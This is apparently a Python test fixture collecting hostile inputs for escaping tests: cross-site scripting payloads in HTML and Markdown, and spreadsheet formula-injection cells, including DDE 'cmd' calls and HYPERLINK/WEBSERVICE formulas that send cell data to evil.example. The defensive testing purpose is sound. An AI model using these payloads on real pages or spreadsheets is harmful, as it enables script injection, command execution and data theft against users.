"""What somebody would write to be run elsewhere: one corpus for every place where words come out again.

`MARKUP` is text as an announcement may hold it. `HOSTILE` is the same aimed at a page that forgot to escape: each sets
`window.ran` in whichever page runs it.
"""

from __future__ import annotations

MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://tracker.example/pixel.gif)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example "\\" onmouseover=alert(1) \\"")',
    "[x]: javascript:alert(1)\n\n[x]",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "<style>body{display:none}</style>",
    "<form action=https://a.example><input name=password></form>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "[x](//evil.example/relative)",
    "[x](/relative)",
    "\x02stop\x02 \x02lead\x02",
]
# Cells of a table as a spreadsheet would obey them.
CELLS = [
    "=1+1",
    "+44 7911 123456",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    '=WEBSERVICE("https://evil.example/?"&A1)',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '"=1+1',
    "'=1+1",
]
RUN = "window.ran=1"
HOSTILE = [
    f"<script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea></noscript><img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f'"><script>{RUN}</script>',
    f"' autofocus onfocus={RUN} x='",
    f'" style="x:expression({RUN})" onmouseover="{RUN}',
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<a href=javascript:{RUN}>x</a>",
    f"[x](javascript:{RUN})",
    f"]]><script>{RUN}</script>",
    f"{{{{ {RUN} }}}}{{% raw %}}<script>{RUN}</script>",
    f"<base href=//evil.example><script src=x>{RUN}</script>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"\u202e<details open ontoggle={RUN}>",
    "<!--><script>window.ran=1</script>-->",
]
